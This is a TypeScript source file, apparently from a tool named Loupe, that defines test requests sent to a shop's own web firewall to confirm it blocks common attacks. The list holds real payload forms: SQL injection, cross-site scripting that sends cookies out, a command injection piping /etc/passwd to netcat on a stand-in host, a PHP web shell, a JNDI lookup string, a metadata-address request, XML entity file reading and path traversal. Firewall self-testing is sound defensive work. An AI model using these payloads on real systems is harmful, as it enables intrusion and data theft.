// The attacks that Loupe sends to its own edge, of the families that a shop is attacked with. Harmless: they end at the edge whatever it says of them, their
// names lead nowhere (`.invalid`, RFC 2606), and what they ask for is what any scanner asks for first.

/** What a route's firewall answers a self-test: a request that it would let go, and one that it stops. */
export const LET_GO = 204;
export const STOPPED = 403;

export interface Attack {
  readonly id: string;
  /** What its observation is about, in words; they stay what they are. */
  readonly name: string;
  readonly method: 'GET' | 'POST';
  /** What is put after the route's path, with its question mark. */
  readonly query: string;
  readonly type: string | null;
  readonly body: string;
}

const get = (id: string, name: string, query: string): Attack => ({
  id,
  name,
  method: 'GET',
  query,
  type: null,
  body: '',
});
const post = (id: string, name: string, type: string, body: string): Attack => ({
  id,
  name,
  method: 'POST',
  query: '',
  type,
  body,
});
const asQuery = (text: string): string => `?q=${encodeURIComponent(text)}`;

export const ATTACKS: readonly Attack[] = [
  get(
    'sql-injection',
    'SQL injection in a search',
    asQuery("' UNION SELECT login, password FROM customers -- "),
  ),
  post(
    'sql-injection-json',
    'SQL injection in JSON',
    'application/json',
    JSON.stringify({ ring: { size: "52' OR '1'='1' -- " } }),
  ),
  get(
    'cross-site-scripting',
    'A script in a link',
    asQuery('"><script>document.location="//loupe.invalid/"+document.cookie</script>'),
  ),
  post(
    'cross-site-scripting-form',
    'A script in an engraving',
    'application/x-www-form-urlencoded',
    `engraving=${encodeURIComponent('<img src=x onerror=alert(document.domain)>')}`,
  ),
  get('path-traversal', 'A path that climbs to the server’s files', '?file=../../../../../../etc/passwd'),
  get('command-injection', 'A command for the server', asQuery('; cat /etc/passwd | nc loupe.invalid 4444')),
  get('code-injection', 'Code for the server', asQuery('<?php system($_GET["c"]); ?>')),
  get(
    'expression-injection',
    'An expression for a log or template',
    asQuery('${jndi:ldap://loupe.invalid/a}'),
  ),
  get(
    'inner-address',
    'An address inside the network',
    `?url=${encodeURIComponent('http://169.254.169.254/latest/meta-data/')}`,
  ),
  post(
    'xml-entity',
    'XML that reads files',
    'application/xml',
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  ),
];

/** A request that a shop lives by: an edge that stops this stops everything, and proves nothing. */
export const HONEST: Attack = get(
  'honest',
  'An honest search',
  asQuery('Verlobungsring Weißgold 0,5 ct “Élodie & Søren”'),
);
